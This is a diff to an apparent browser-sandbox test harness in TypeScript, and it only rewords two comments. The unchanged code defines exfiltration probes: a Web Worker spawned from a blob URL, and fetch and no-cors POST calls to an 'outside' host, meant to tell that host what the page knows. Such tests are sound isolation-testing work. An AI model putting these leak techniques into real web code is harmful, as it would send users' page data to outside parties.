@@ -1,6 +1,6 @@
 import { type Attack, got, make, opened, put } from './world.ts';
 
-/** A document that is asked for from inside: it would have neither the page's limits nor its origin. */
+/** A document requested from inside: it would have neither the page's limits nor its origin. */
 const inWorker = (code: string) =>
   new Promise((resolve) => {
     const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
@@ -8,7 +8,7 @@ const inWorker = (code: string) =>
     worker.addEventListener('message', () => resolve('sent'));
   });
 
-/** Attempts to have something fetched, so that whoever is asked learns what the page knows. */
+/** Attempts to make requests that tell their target what the page knows. */
 export const requests = {
   fetch: ({ outside }, name) => fetch(`${outside}/${name}`),
   noCorsFetch: ({ outside }, name) => fetch(`${outside}/${name}`, { mode: 'no-cors', method: 'POST', body: 'x' }),
